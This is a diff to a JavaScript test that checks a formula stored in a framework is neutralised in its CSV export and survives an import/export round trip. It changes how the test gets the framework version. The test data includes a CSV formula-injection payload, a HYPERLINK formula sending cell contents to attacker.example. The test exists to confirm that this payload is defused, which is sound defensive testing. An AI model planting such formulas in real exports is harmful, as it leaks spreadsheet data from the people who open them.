@@ -215,17 +215,19 @@ test('a formula in a framework is neutralised in its CSV download and comes back
   const csv = await res.text()
   assert.ok(csv.includes(`,"'=HYPERLINK(""http://attacker.example/?""&A1,""Click"")",effective,`), 'prefixed and quoted')
   assert.doesNotMatch(csv, /(^|,)=HYPERLINK/m, 'no cell starts with =')
-  // Importing the download gives the text back as written, and exporting it again the
-  // same bytes.
+  // Importing the download into another database gives the text back as written, and
+  // exporting it again the same bytes.
   const file = path.join(dir, 'roundtrip.csv')
   writeFileSync(file, csv)
   const fresh = path.join(dir, 'roundtrip.db')
   const imported = runPathway(['import', 'framework', '--db', fresh, '--root', root, '--format', 'csv', file])
   assert.equal(imported.status, 0, imported.stderr)
   assert.equal(sql(fresh, `SELECT count(*) FROM fw_indicator WHERE text = '${FORMULA.replaceAll("'", "''")}'`), '1')
-  const exported = runPathway(['export', 'framework', '--db', fresh, '--root', root, '--format', 'csv', '--version', '2', id])
+  const version = sql(fresh, `SELECT version FROM framework_version WHERE framework_id = '${id}'`)
+  const exported = runPathway(['export', 'framework', '--db', fresh, '--root', root, '--format', 'csv', '--version', version, id])
   assert.equal(exported.status, 0, exported.stderr)
-  assert.equal(exported.stdout, csv)
+  // The same bytes, but for the version: a framework new to that database starts at 1.
+  assert.equal(exported.stdout.replace(`framework,${id},,${version},`, `framework,${id},,2,`), csv)
 })
 
 test('readers never see a draft version: not in the list, the page or the API', async () => {
